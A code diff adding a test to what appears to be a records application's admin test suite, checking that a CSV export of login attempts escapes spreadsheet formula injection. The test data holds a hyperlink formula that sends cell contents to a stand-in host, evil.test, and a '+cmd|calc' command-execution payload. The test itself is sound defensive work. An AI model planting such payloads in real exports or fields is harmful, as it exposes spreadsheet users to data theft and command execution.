@@ -6,6 +6,7 @@ import { createDiagnostic } from '../server/catalogue/index.js';
 import { db } from '../server/db/data-source.js';
 import { User } from '../server/db/entities/user.js';
 import { AuditEvent } from '../server/db/entities/audit-event.js';
+import { LoginAttempt } from '../server/db/entities/login-attempt.js';
 import { Notification } from '../server/db/entities/notification.js';
 import { Appointment } from '../server/db/entities/appointment.js';
 import { addJournalEntry, addPrescription } from '../server/records/index.js';
@@ -393,6 +394,19 @@ describe('staff invitation and oversight', () => {
     expect(total).toBeGreaterThan(0);
     expect(rows).toHaveLength(total);
     expect(rows.every((r) => r.split(',')[2] === String(people.admin.id))).toBe(true);
+  });
+
+  it('exports what a stranger typed so that a spreadsheet shows it rather than runs it', async () => {
+    const email = '=hyperlink("http://evil.test/?"&a1)@x.test';
+    await db().getRepository(LoginAttempt).insert({
+      email, ip: '10.9.8.7', userAgent: '+cmd|calc', channel: 'portal', success: false, reason: 'unknown', at: clock.now(),
+    });
+    const csv = await clients.admin.get(`/admin/api/export/LoginAttempts?filters.email=${encodeURIComponent(email)}`);
+    expect(csv.status).toBe(200);
+    const [, row] = csv.text.trim().split('\n');
+    expect(row).toContain(`"'=hyperlink(""http://evil.test/?""&a1)@x.test"`);
+    expect(row).toContain(",'+cmd|calc,");
+    expect(row).toContain(',10.9.8.7,');
   });
 });
 
